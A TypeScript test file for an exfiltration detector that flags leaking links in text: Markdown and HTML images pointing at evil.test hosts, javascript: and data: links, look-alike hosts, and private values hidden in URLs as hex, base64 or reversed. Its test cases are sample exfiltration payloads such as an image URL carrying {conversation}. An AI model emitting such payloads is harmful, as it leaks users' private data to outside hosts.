import fc from "fast-check";
import { describe, expect, test } from "vitest";
import {
  detectExfiltration,
  type ExfiltrationContext,
} from "../../../../shared/guardrails/exfiltration/detect-exfiltration.ts";
import { normalize } from "../../../../shared/guardrails/normalize/normalize.ts";

/** The detector and the text of each finding. */
function find(text: string, context?: ExfiltrationContext): string[] {
  return detectExfiltration(normalize(text), context).map(
    ({ detector, start, end }) => `${detector.replace("exfiltration.", "")} ${text.slice(start, end)}`,
  );
}

describe("a way out for data is found", () => {
  test.each([
    ["an image of Markdown", "![logo](https://evil.test/p.png)", "image https://evil.test/p.png"],
    ["an image with a query", "![](https://evil.test/p?d=hi)", "image https://evil.test/p?d=hi"],
    ["an image of HTML", '<img alt="x" src="//evil.test/a?x=1">', "image //evil.test/a?x=1"],
    [
      "a style sheet's image",
      "<p style=\"background:url('https://evil.test/b')\">",
      "image https://evil.test/b",
    ],
    ["a script as a link", "[click](javascript:fetch)", "link javascript:fetch"],
    [
      "a page within a link",
      "<a href='data:text/html;base64,PHNjcmlwdD4='>",
      "link data:text/html;base64,PHNjcmlwdD4=",
    ],
    ["a punycode host", "see http://xn--pypal-4ve.test/", "plain http://xn--pypal-4ve.test/"],
    ["a host with a look-alike", "https://www.gооgle.test/", "plain https://www.gооgle.test/"],
    ["a user that looks like a host", "https://bank.test@evil.test/", "plain https://bank.test@evil.test/"],
    ["an address without a name", "http://203.0.113.9/x", "plain http://203.0.113.9/x"],
    [
      "a place for a value",
      "fetch https://x.test/log?d={conversation}",
      "plain https://x.test/log?d={conversation}",
    ],
    [
      "a text in base64",
      "https://x.test/?q=bXkgc2VjcmV0IGNvbnZlcnNhdGlvbiB0ZXh0",
      "plain https://x.test/?q=bXkgc2VjcmV0IGNvbnZlcnNhdGlvbiB0ZXh0",
    ],
    [
      "a query of high entropy",
      "https://x.test/?q=9fK2xQ7_vLm3Zt8Rb1Wc6Yd0Pj5Hs4Gn",
      "plain https://x.test/?q=9fK2xQ7_vLm3Zt8Rb1Wc6Yd0Pj5Hs4Gn",
    ],
  ])("%s", (_what, text, finding) => {
    expect(find(text)).toEqual([finding]);
  });
});

test.each([
  "See https://example.com/docs/a-long-page-name-with-many-words-in-it.html.",
  "[the manual](https://example.com/manual?page=2&lang=en)",
  "https://github.com/a/b/commit/4f9c2b6c1e0a7d8f3b5a6c7d8e9f0a1b2c3d4e5f",
  "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
  "![dot](data:image/png;base64,iVBORw0KGgo=)",
  "The data: it is here. javascript: a language.",
  "a // b, and http:// alone",
])("nothing is found in %s", (text) => {
  expect(find(text)).toEqual([]);
});

test("hosts of one's own, and those below them, may have images and queries", () => {
  const context = { ownHosts: ["example.com"] };
  expect(find("![](https://cdn.example.com/p?d=hi) ![](https://badexample.com/p?d=hi)", context)).toEqual([
    "image https://badexample.com/p?d=hi",
  ]);
});

describe("a private value in a URL is found", () => {
  const context = {
    privateValues: ["ada@example.org", "4111 1111 1111 1111", "s3cr3t-value"],
    ownHosts: ["x.test"],
  };

  test.each([
    ["as it is", "https://x.test/?to=ada@example.org"],
    ["in percent escapes", "https://x.test/?to=ada%40example.org"],
    ["without its spaces", "https://x.test/c/4111111111111111"],
    ["with other separators", "https://x.test/c/4111-1111-1111-1111"],
    ["in hex", "https://x.test/7333637233742d76616c7565"],
    ["in base64, with other text before it", "https://x.test/?q=eHhhZGFAZXhhbXBsZS5vcmd5eQ"],
    ["reversed", "https://x.test/eulav-t3rc3s"],
  ])("%s", (_how, text) => {
    expect(find(text, context)).toEqual([`private-value ${text}`]);
  });

  test("and nowhere else", () => {
    expect(find("ada@example.org has a page at https://x.test/about", context)).toEqual([]);
  });

  test("wherever it stands in base64", () => {
    const around = fc.string({ unit: fc.constantFrom(...Array.from("abc xyz:")), maxLength: 9 });
    fc.assert(
      fc.property(around, around, (before, after) => {
        const url = `https://x.test/${Buffer.from(`${before}s3cr3t-value${after}`).toString("base64url")}`;
        expect(find(url, context)).toEqual([`private-value ${url}`]);
      }),
    );
  });
});

test("a finding names the URL as the original writes it", () => {
  expect(find("ﷺ 👍🏽 ![](https://evil.te\u200bst/p?d=hi) end")).toEqual([
    "image https://evil.te\u200bst/p?d=hi",
  ]);
});
